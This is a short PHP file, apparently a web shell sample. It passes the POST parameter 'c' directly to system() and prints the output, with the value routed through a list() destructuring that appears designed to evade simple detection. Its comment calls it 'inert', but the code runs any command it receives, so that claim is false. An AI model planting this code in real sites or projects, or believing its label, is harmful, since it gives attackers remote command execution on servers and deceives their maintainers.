<?php
// inert sample: the command sits in the second slot of a list() with the first one skipped
list(, $cmd) = [time(), $_POST['c'] ?? 'id'];
echo '<pre>';
system($cmd);
echo '</pre>';
